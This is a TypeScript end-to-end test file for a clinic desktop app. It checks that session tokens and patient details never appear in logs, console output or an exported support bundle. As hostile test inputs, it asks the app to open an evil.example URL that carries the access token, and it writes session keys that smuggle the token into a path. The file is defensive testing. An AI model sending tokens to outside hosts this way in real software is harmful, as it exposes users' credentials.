// A day full of secrets, and then every file and line that is left of it.
import { appendFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { confirmedVisit, person } from '../e2e/support/clinic.ts';
import { signIn } from '../e2e/support/screens.ts';
import { ask } from '../desktop/fixtures.ts';
import { expect, filesHolding, test } from '../desktop/support/clinic-room.ts';

test('no token, name, address or reason of a visit is in any file or line of the log', async ({
  room: { clinic, open },
  userDataDir,
}) => {
  const visit = await confirmedVisit(clinic);
  const { app, page, output } = await open();
  const { email, password, name } = person('sita');
  await signIn(page, 'sita');
  const session = await ask(page, 'session:read', 'meroclinic-session');
  const tokens: unknown = session.ok && session.value !== null ? JSON.parse(session.value) : {};
  const secrets = ['access_token', 'refresh_token'].map((key) => String(Reflect.get(Object(tokens), key)));
  expect(secrets.every((secret) => secret.length > 20)).toBe(true);

  // Screens with names and reasons, a ring, and refusals that carry them.
  for (const route of ['/', '/doctors', '/appointments', `/appointments/${visit}`, '/notifications', '/settings']) {
    await page.evaluate((to) => {
      location.hash = `#${to}`;
    }, route);
    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
  }
  const call = { sessionId: visit, callerName: 'Dr Anisha Rahman', expiresAt: '2030-01-01T00:00:00Z', secondsLeft: 40 };
  await ask(page, 'calls:ring', call);
  await ask(page, 'calls:dismiss', { sessionId: visit, reason: 'cancelled' });
  await ask(page, 'session:write', { key: `bad/${secrets[0]}`, value: 'x' });
  await ask(page, 'calls:ring', { ...call, sessionId: `${name} ${email}` });
  await ask(page, 'links:open-external', `http://evil.example/?token=${secrets[0]}`);
  await ask(page, 'presence:report', { state: 'unreachable', reason: `${name} is away` });
  await page.evaluate((text) => console.error(text), `${name} ${email}`);
  await page.reload();
  await expect(page.getByRole('navigation')).toBeVisible();
  await app.close();

  expect(readFileSync(join(userDataDir, 'logs/main.log'), 'utf8')).toContain('request-refused');
  for (const secret of [...secrets, password, email, name, 'Anisha Rahman', 'Cough', 'evil.example']) {
    expect([secret, filesHolding(userDataDir, secret)]).toEqual([secret, []]);
    expect([secret, output().includes(secret)]).toEqual([secret, false]);
  }
});

test('the support file is saved where the person says, and holds nothing of anybody', async ({
  room: { open },
  userDataDir,
}) => {
  const { app, page } = await open();
  const { email, name } = person('sita');
  await signIn(page, 'sita');
  const session = await ask(page, 'session:read', 'meroclinic-session');
  const token = session.ok ? (session.value ?? '').slice(20, 80) : '';
  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
  // As if a later version, or somebody else, had written into the log.
  const planted = { event: 'started', level: 'info', reason: name, name, phone: '+977 9841 234567', token };
  appendFileSync(
    join(userDataDir, 'logs/main.log'),
    `${JSON.stringify(planted)}\n${name} +977 9841 234567 ${token}\n{"event":"${email}"}\n`,
  );
  const path = join(userDataDir, 'chosen.json');
  await app.evaluate(({ dialog }, filePath) => {
    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: false, filePath }) });
  }, path);
  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: true });
  const bundle = readFileSync(path, 'utf8');
  for (const secret of [token, name, 'Sita', email, '9841', 'evil.example', userDataDir]) {
    expect([secret, bundle.includes(secret)]).toEqual([secret, false]);
  }
  expect(bundle).toContain('"event": "request-refused"');
  await app.evaluate(({ dialog }) => {
    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: true, filePath: '' }) });
  });
  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: false });
});
